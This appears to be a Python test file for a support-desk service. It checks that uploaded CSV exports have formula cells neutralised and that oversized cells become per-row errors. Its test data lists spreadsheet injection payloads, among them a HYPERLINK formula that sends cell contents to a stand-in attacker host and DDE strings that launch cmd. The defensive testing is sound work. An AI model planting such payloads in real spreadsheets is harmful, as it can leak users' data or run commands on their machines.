"""What an answered export holds, through the desk (upload, job in its own process, download):
spreadsheet formulas in any cell are neutralised, and an oversized cell is its row's error."""
from __future__ import annotations

import csv
import io

from test_support_api import LOCAL, start_desk  # noqa: F401 (fixture)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def answered(desk, data: bytes, name: str = "t.csv") -> tuple[dict, list[dict]]:
    response = await desk.http.post(f"{desk.base}/support/api/jobs?filename={name}&today=2024-11-27",
                                    data=data, headers=desk.headers())
    assert response.status == 202, await response.text()
    job = await desk.wait_job((await response.json())["id"], desk.headers())
    assert job["status"] == "done", job
    result = await desk.http.get(desk.base + job["result_url"], headers=desk.headers())
    return job, list(csv.DictReader(io.StringIO(await result.text(), newline="")))


def _export(rows, header=("id", "question", "note")) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


async def test_the_answered_csv_neutralises_formula_cells(start_desk):
    desk = await start_desk(LOCAL)
    await desk.open_page()
    attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
    rows = [[f"=1+{i}", question, attack] for i, (question, attack) in
            enumerate(zip(attacks, reversed(attacks)))]
    rows.append(["7", "claim deadline for funds earned in May 2021", "a plain note"])
    job, out = await answered(desk, _export(rows, header=("id", "question", "@note")))
    assert job["done"] == 7
    for row in out:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
    assert list(out[0]) == ["id", "question", "'@note", "answer", "error"]
    assert out[0]["id"] == "'=1+0" and out[0]["question"] == "'" + attacks[0]
    assert out[4]["question"] == "'\t=1+1" and out[5]["question"] == "'\r=1+1"
    assert out[6]["'@note"] == "a plain note" and "February 15, 2022" in out[6]["answer"]


async def test_a_cell_over_the_csv_limit_is_its_rows_error_not_a_failed_export(start_desk):
    desk = await start_desk(LOCAL)
    await desk.open_page()
    huge = "when must I claim? " + "x" * 131_073
    rows = [["1", "claim deadline for funds earned in May 2021", "ok"],
            ["2", huge, "kept"],
            ["3", "claim deadline for funds earned in May 2022", "z" * 140_000],
            ["4", "claim deadline for funds earned in May 2023", "ok"]]
    job, out = await answered(desk, _export(rows))
    assert job["total"] == 4 and job["done"] == 4 and job["failed"] == 2
    assert [row["id"] for row in out] == ["1", "2", "3", "4"]  # every row keeps its place
    assert out[1]["error"] == "ValueError: the 'question' cell is longer than 131072 characters"
    assert out[1]["question"] == "" and out[1]["note"] == "kept" and out[1]["answer"] == ""
    assert out[2]["error"] == "ValueError: the 'note' cell is longer than 131072 characters"
    assert "February 15, 2022" in out[0]["answer"] and "February 15, 2024" in out[3]["answer"]
